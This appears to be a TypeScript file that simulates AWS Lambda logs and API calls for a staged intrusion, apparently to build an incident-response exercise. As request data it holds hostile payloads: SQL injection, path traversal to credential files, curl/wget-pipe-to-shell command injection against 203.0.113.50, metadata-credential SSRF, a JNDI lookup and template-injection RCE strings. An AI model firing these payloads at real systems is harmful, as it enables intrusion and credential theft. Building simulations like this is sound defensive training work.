// The simulation every file is written from: each function's invocations, the execution
// environments (log streams, role-session keys, subnets) they ran in, and the AWS calls each
// invocation made from inside the function.
import {
  ATTACK, ATTACKER_IP, C2_IP, DAY, FUNCTIONS, HOUR, INCIDENT, LAMBDA_PUBLIC_IPS, MIN, Rng, T0, XSS_UA, at, fn,
  type FnName, type FnSpec,
} from './story.ts';

export interface Env {
  fn: FnName;
  /** 32 hex characters: the log stream is YYYY/MM/DD/[<version>]<id> */
  id: string;
  stream: string;
  created: number;
  maxAge: number;
  lastUsed: number;
  busyUntil: number;
  /** the role session's temporary key (ASIA...), one per execution environment */
  key: string;
  version: string;
  memory: number;
  /** VPC functions: the subnet of the Hyperplane ENI; others: the public source IP of their calls */
  subnet?: string;
  publicIp?: string;
  srcPort: number;
}

export interface Call {
  time: number;
  source: 'dynamodb' | 's3' | 'kms' | 'sts' | 'secretsmanager' | 'iam';
  action: string;
  target?: string; // table, bucket/key, key ARN, secret ARN
  error?: 'AccessDenied';
}

export interface HttpReq {
  method: string;
  path: string;
  query?: Record<string, string>;
  body?: string;
  sourceIp: string;
  ua: string;
}

export interface Invocation {
  fn: FnName;
  requestId: string;
  start: number;
  durationMs: number;
  initMs?: number;
  env: Env;
  maxMem: number;
  kind: 'normal' | 'attack' | 'cron' | 'burst' | 'url-test';
  http?: HttpReq;
  status: number; // HTTP-ish outcome the app logs
  calls: Call[];
  note?: 'traceback' | 'timeout' | 'template-eval' | 'ssrf' | 'rce';
}

const CLIENT_PREFIXES = ['86.12', '91.134', '109.76', '176.24', '81.2', '185.44'];
const CLIENT_UAS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'acme-mobile/4.12.0 (Android 14; Pixel 8)',
  'acme-web/2026.03.1',
];

/** Times at which a function's configuration changed: every environment is replaced. */
function resets(f: FnSpec): number[] {
  switch (f.name) {
    case 'orders-api': return [ATTACK.codeUpdate];
    case 'report-builder': return [1, 2, 3].map((d) => ciDeployTime(d));
    case 'invoice-renderer': return [ATTACK.memoryChange];
    case 'thumbnail-maker': return [ATTACK.layer];
    default: return [];
  }
}

/** The commits CI deploys to report-builder on days 1-3 (the artifact name and the code hash). */
export const CI_COMMITS = ['3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a', '8b2d4f6a0c1e3a5c7e9b1d3f5a7c9e0b2d4f6a8c', 'c1e3a5c7e9b0d2f4a6c8e1b3d5f7a9c0e2b4d6f8'];
export const ciCodeSha = (d: number) => Buffer.from(`${CI_COMMITS[d - 1]}${CI_COMMITS[d - 1]!.slice(0, 24)}`, 'hex').toString('base64');
/** The code orders-api runs after the attacker's UpdateFunctionCode. */
export const BACKDOORED_SHA = 'bD4kR9tW2yX6zA1cE5gI8mO3qS7uV0wY4aC8eG2iK6m=';

/** The CI deployment of report-builder on day d (UpdateFunctionCode at this time). */
export function ciDeployTime(d: number): number {
  return at(d, 14, 1, [37, 12, 49][d - 1]!);
}
/** report-builder runs through its alias `live`: the version published by the day's deployment. */
function reportVersion(t: number): string {
  let v = 12;
  for (const d of [1, 2, 3]) if (t >= ciDeployTime(d)) v++;
  return String(v);
}
export function memoryAt(f: FnSpec, t: number): number {
  return f.name === 'invoice-renderer' && t >= ATTACK.memoryChange ? 1536 : f.memory;
}

function hourlyCount(rng: Rng, f: FnName, t: number): number {
  const h = new Date(t).getUTCHours();
  const day = (x: number, y: number) => h >= x && h < y;
  const noise = (n: number) => Math.max(0, Math.round(n * rng.float(0.85, 1.15)));
  switch (f) {
    case 'orders-api': return noise(20 + 40 * (day(7, 22) ? Math.sin((Math.PI * (h - 7 + 0.5)) / 15) : 0));
    case 'report-builder': return day(9, 18) ? rng.int(2, 6) : 0; // on-demand; the hourly cron is added apart
    case 'invoice-renderer': return day(8, 19) ? rng.int(6, 14) : rng.int(0, 2);
    case 'thumbnail-maker': return day(7, 22) ? rng.int(4, 10) : rng.int(0, 2);
    default: return 0;
  }
}

function clientIp(rng: Rng): string {
  return `${rng.pick(CLIENT_PREFIXES)}.${rng.int(1, 254)}.${rng.int(1, 254)}`;
}

function normalOrdersReq(rng: Rng): { http: HttpReq; calls: Array<Omit<Call, 'time'>>; status: number } {
  const ip = clientIp(rng);
  const ua = rng.pick(CLIENT_UAS);
  const r = rng.next();
  if (r < 0.3) {
    const sku = `A-${rng.int(100, 999)}`;
    const calls: Array<Omit<Call, 'time'>> = [{ source: 'dynamodb', action: 'PutItem', target: 'orders-idempotency' }];
    if (rng.chance(0.5)) calls.push({ source: 's3', action: 'PutObject', target: `acme-orders-receipts/receipts/2026/03/${rng.hex(12)}.pdf` });
    return { http: { method: 'POST', path: '/orders', body: JSON.stringify({ sku, qty: rng.int(1, 5) }), sourceIp: ip, ua }, calls, status: 201 };
  }
  if (r < 0.8) {
    return { http: { method: 'GET', path: `/orders/${rng.int(1000, 9999)}`, sourceIp: ip, ua }, calls: [{ source: 'dynamodb', action: 'GetItem', target: 'orders-idempotency' }], status: 200 };
  }
  return {
    http: { method: 'GET', path: '/orders', query: { customer: `c-${rng.int(10000, 99999)}` }, sourceIp: ip, ua },
    calls: [{ source: 'dynamodb', action: 'Query', target: 'orders-idempotency' }], status: 200,
  };
}

interface Planned {
  t: number;
  kind: Invocation['kind'];
  http?: HttpReq;
  calls: Array<Omit<Call, 'time'> & { dt?: number }>;
  status: number;
  dur: [number, number];
  note?: Invocation['note'];
}

const ATK_UA = 'python-requests/2.31.0';
/** The attacker's requests against orders-api's function URL that carry a payload (fixed times). */
function payloadRequests(): Planned[] {
  const p = (m: number, s: number, http: Omit<HttpReq, 'sourceIp'>, status: number, note?: Invocation['note'], dur: [number, number] = [18, 60]): Planned =>
    ({ t: at(3, 8, m, s), kind: 'attack', http: { ...http, sourceIp: ATTACKER_IP }, calls: [], status, dur, note });
  const post = (body: unknown) => JSON.stringify(body);
  return [
    p(2, 11, { method: 'GET', path: '/orders', query: { customer: "1' OR 1=1--" }, ua: 'sqlmap/1.8#stable (https://sqlmap.org)' }, 500),
    p(2, 48, { method: 'GET', path: '/orders', query: { customer: "1' AND SLEEP(5)-- -" }, ua: 'sqlmap/1.8#stable (https://sqlmap.org)' }, 500),
    p(3, 30, { method: 'GET', path: '/orders', query: { customer: '1 UNION SELECT username,password FROM users--' }, ua: 'sqlmap/1.8#stable (https://sqlmap.org)' }, 500),
    p(5, 2, { method: 'GET', path: '/orders/export', query: { file: '../../../../etc/passwd' }, ua: ATK_UA }, 400),
    p(5, 40, { method: 'GET', path: '/orders/export', query: { file: '..%2f..%2f..%2f..%2fproc/self/environ' }, ua: ATK_UA }, 400),
    p(7, 19, { method: 'POST', path: '/orders', body: post({ sku: 'A-100; curl http://203.0.113.50/x.sh | sh', qty: 1 }), ua: ATK_UA }, 400),
    p(7, 55, { method: 'POST', path: '/orders', body: post({ sku: 'A-100 && wget -qO- http://203.0.113.50/x.sh | bash', qty: 1 }), ua: ATK_UA }, 400),
    p(9, 3, { method: 'POST', path: '/orders/webhook-test', body: post({ callbackUrl: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }), ua: ATK_UA }, 502, 'ssrf', [3000, 3100]),
    p(10, 26, { method: 'POST', path: '/orders', body: post({ sku: 'A-100', qty: 1, note: '{{7*7}}' }), ua: ATK_UA }, 201, 'template-eval'),
    p(11, 2, { method: 'POST', path: '/orders', body: post({ sku: 'A-100', qty: 1, note: '${jndi:ldap://203.0.113.50:1389/a}' }), ua: ATK_UA }, 201),
    p(12, 31, { method: 'POST', path: '/orders', body: post({ sku: 'A-100', qty: 1, note: "${require('child_process').execSync('id').toString()}" }), ua: ATK_UA }, 201, 'rce', [900, 1400]),
    p(16, 8, { method: 'POST', path: '/orders', body: post({ sku: 'A-100', qty: 1, name: '<script>alert(1)</script>' }), ua: XSS_UA }, 201),
    p(16, 44, { method: 'GET', path: '/orders/1001', query: { ref: '"><img src=x onerror=alert(1)>' }, ua: XSS_UA }, 200),
    p(29, 50, { method: 'POST', path: '/orders', body: post({ sku: 'A-100', qty: 1, note: "${require('https').get('https://203.0.113.50/stage2.js',r=>r.pipe(process.stdout))}" }), ua: ATK_UA }, 201, 'rce', [1800, 2400]),
  ];
}

function plan(rng: Rng, f: FnSpec): Planned[] {
  const out: Planned[] = [];
  for (let h = T0; h < T0 + 3 * DAY; h += HOUR) {
    const n = hourlyCount(rng, f.name, h);
    for (const t of rng.times(n, h, h + HOUR)) {
      if (f.name === 'orders-api') {
        const r = normalOrdersReq(rng);
        out.push({ t, kind: 'normal', http: r.http, calls: r.calls, status: r.status, dur: [12, 95] });
      } else if (f.name === 'report-builder') {
        out.push({ t, kind: 'normal', calls: [{ source: 's3', action: 'PutObject', target: `acme-reports/on-demand/${rng.hex(10)}.pdf`, dt: 900 }], status: 200, dur: [1200, 3500] });
      } else if (f.name === 'invoice-renderer') {
        out.push({ t, kind: 'normal', calls: [
          { source: 'dynamodb', action: 'GetItem', target: 'invoices', dt: 40 },
          { source: 's3', action: 'PutObject', target: `acme-invoices/2026/03/INV-${rng.int(100000, 999999)}.pdf`, dt: 380 },
        ], status: 200, dur: [420, 1100] });
      } else if (f.name === 'thumbnail-maker') {
        const key = `${rng.hex(16)}.jpg`;
        out.push({ t, kind: 'normal', calls: [
          { source: 's3', action: 'GetObject', target: `acme-uploads/incoming/${key}`, dt: 30 },
          { source: 's3', action: 'PutObject', target: `acme-thumbnails/320/${key}`, dt: 260 },
        ], status: 200, dur: [240, 880] });
      }
    }
    if (f.name === 'report-builder') {
      out.push({ t: h + 5 * MIN + rng.int(40, 900), kind: 'cron', calls: [
        { source: 'dynamodb', action: 'Query', target: 'reports-meta', dt: 60 },
        { source: 's3', action: 'PutObject', target: `acme-reports/hourly/${new Date(h).toISOString().slice(0, 13)}.pdf`, dt: 2100 },
      ], status: 200, dur: [2600, 4800] });
    }
    if (f.name === 'nightly-billing' && new Date(h).getUTCHours() === 2) {
      const n = [148, 152, 150][Math.floor((h - T0) / DAY)]!;
      for (const t of rng.times(n, h, h + 20 * MIN)) {
        const calls: Planned['calls'] = [{ source: 'dynamodb', action: 'Query', target: 'billing-ledger', dt: 120 }];
        if (rng.chance(0.2)) calls.push({ source: 's3', action: 'PutObject', target: `acme-billing-exports/2026/03/${rng.hex(12)}.csv`, dt: 1500 });
        out.push({ t, kind: 'burst', calls, status: 200, dur: [1500, 4200] });
      }
    }
  }
  if (f.name === 'orders-api') {
    // the spike: ~10x the usual traffic for 08:00-09:00 on 2026-03-11, almost all of it the attacker
    const payloads = payloadRequests();
    for (const t of rng.times(330, ATTACK.spikeStart, ATTACK.spikeEnd)) {
      const id = rng.int(1000, 1400);
      const lookedUp = rng.chance(0.1);
      out.push({ t, kind: 'attack', http: { method: 'GET', path: `/orders/${id}`, sourceIp: ATTACKER_IP, ua: ATK_UA },
        calls: lookedUp ? [{ source: 'dynamodb', action: 'GetItem', target: 'orders-idempotency' }] : [], status: lookedUp ? 200 : 404, dur: [9, 40] });
    }
    out.push(...payloads);
  }
  if (f.name === 'invoice-renderer') {
    // the attacker tries the function URL they just created
    for (const t of [at(3, 10, 33, 12), at(3, 10, 34, 40)]) {
      out.push({ t, kind: 'url-test', http: { method: 'GET', path: '/', sourceIp: '198.51.100.23', ua: 'curl/8.5.0' }, calls: [], status: 400, dur: [30, 60] });
    }
  }
  if (f.name === 'report-builder') {
    // one handled error whose traceback is logged as a single event (lines joined by \r)
    const cron = out.find((p) => p.kind === 'cron' && p.t >= at(2, 16, 0));
    if (cron) cron.note = 'traceback';
  }
  if (f.name === 'thumbnail-maker') {
    const p = out.find((x) => x.t >= at(2, 13, 30));
    if (p) { p.note = 'timeout'; p.dur = [60000, 60000]; p.calls = p.calls.slice(0, 1); }
  }
  return out.sort((a, b) => a.t - b.t);
}

function newEnv(rng: Rng, f: FnSpec, t: number): Env {
  const version = f.name === 'report-builder' ? reportVersion(t) : '$LATEST';
  const id = rng.hex(32);
  return {
    fn: f.name, id, stream: `${new Date(t).toISOString().slice(0, 10).replace(/-/g, '/')}/[${version}]${id}`,
    created: t, maxAge: rng.int(2 * 60, 5 * 60) * MIN, lastUsed: t, busyUntil: t,
    key: `ASIA${rng.upper(16)}`, version, memory: memoryAt(f, t),
    subnet: f.vpc ? rng.pick(f.vpc.subnets) : undefined,
    publicIp: f.vpc ? undefined : rng.pick(LAMBDA_PUBLIC_IPS),
    srcPort: rng.int(32768, 60999),
  };
}

export interface World {
  invocations: Invocation[];
  envs: Env[];
  /** the execution environment the attacker's code ran in, whose key was stolen */
  compromised: Env;
}

export function simulate(): World {
  const invocations: Invocation[] = [];
  const envs: Env[] = [];
  for (const f of FUNCTIONS) {
    const rng = new Rng(`world/${f.name}`);
    const pool: Env[] = [];
    const cuts = resets(f);
    for (const p of plan(rng, f)) {
      // environments die when idle too long, when old, and when the configuration changes
      for (let i = pool.length - 1; i >= 0; i--) {
        const e = pool[i]!;
        const cut = cuts.some((c) => e.created < c && c <= p.t);
        if (cut || p.t - e.lastUsed > 25 * MIN || p.t - e.created > e.maxAge) pool.splice(i, 1);
      }
      let env = pool.filter((e) => e.busyUntil <= p.t).sort((a, b) => b.lastUsed - a.lastUsed)[0];
      let initMs: number | undefined;
      if (!env) {
        initMs = f.runtime === 'nodejs20.x' ? rng.float(160, 320) : rng.float(380, 900);
        env = newEnv(rng, f, p.t - Math.ceil(initMs) - rng.int(20, 80));
        pool.push(env);
        envs.push(env);
      }
      const durationMs = Math.round(rng.float(p.dur[0], p.dur[1]) * 100) / 100;
      env.busyUntil = p.t + Math.ceil(durationMs);
      env.lastUsed = p.t;
      const calls: Call[] = p.calls.map((c) => ({ ...c, time: p.t + (c.dt ?? rng.int(5, Math.max(6, Math.floor(durationMs * 0.8)))) }));
      invocations.push({
        fn: f.name, requestId: rng.uuid(), start: p.t, durationMs, initMs, env,
        maxMem: Math.round(env.memory * rng.float(0.14, 0.3)), kind: p.kind, http: p.http, status: p.status, calls, note: p.note,
      });
    }
  }
  invocations.sort((a, b) => a.start - b.start || a.fn.localeCompare(b.fn));
  const rce = invocations.find((i) => i.fn === 'orders-api' && i.note === 'rce')!;
  addAttackCalls(invocations, rce);
  return { invocations, envs, compromised: rce.env };
}

/** What the attacker's code did inside orders-api, and the rare-but-known KMS call (decoy). */
function addAttackCalls(invs: Invocation[], rce: Invocation): void {
  const t = rce.start;
  rce.calls.push(
    { time: t + 240, source: 'sts', action: 'GetCallerIdentity' },
    { time: t + 410, source: 's3', action: 'ListBuckets', error: 'AccessDenied' },
    { time: t + 560, source: 'secretsmanager', action: 'GetSecretValue', target: 'prod/orders/db', error: 'AccessDenied' },
    { time: t + 730, source: 'iam', action: 'ListRoles', error: 'AccessDenied' },
  );
  for (const when of [at(1, 11, 20), at(3, 8, 35)]) {
    const post = invs.find((i) => i.fn === 'orders-api' && i.start >= when && i.http?.method === 'POST' && i.kind === 'normal')!;
    post.calls.push({ time: post.start + 8, source: 'kms', action: 'GenerateDataKey' });
  }
}

/** The C2 traffic of the compromised environment (flow records), per the story. */
export const C2_SESSIONS = [
  { port: 443, from: ATTACK.templateRce + 1500, to: ATTACK.templateRce + 4000, bytesOut: 1834, bytesIn: 48211 },
  { port: 443, from: at(3, 8, 29, 51), to: at(3, 8, 29, 54), bytesOut: 2210, bytesIn: 91544 },
  { port: 4444, from: at(3, 8, 31, 5), to: at(3, 9, 10, 40), bytesOut: 38710, bytesIn: 12022 },
].map((s) => ({ ...s, ip: C2_IP }));

export const invocationsOf = (w: World, name: FnName) => w.invocations.filter((i) => i.fn === name);
export const isIncident = (t: number) => t >= INCIDENT;
export { fn };
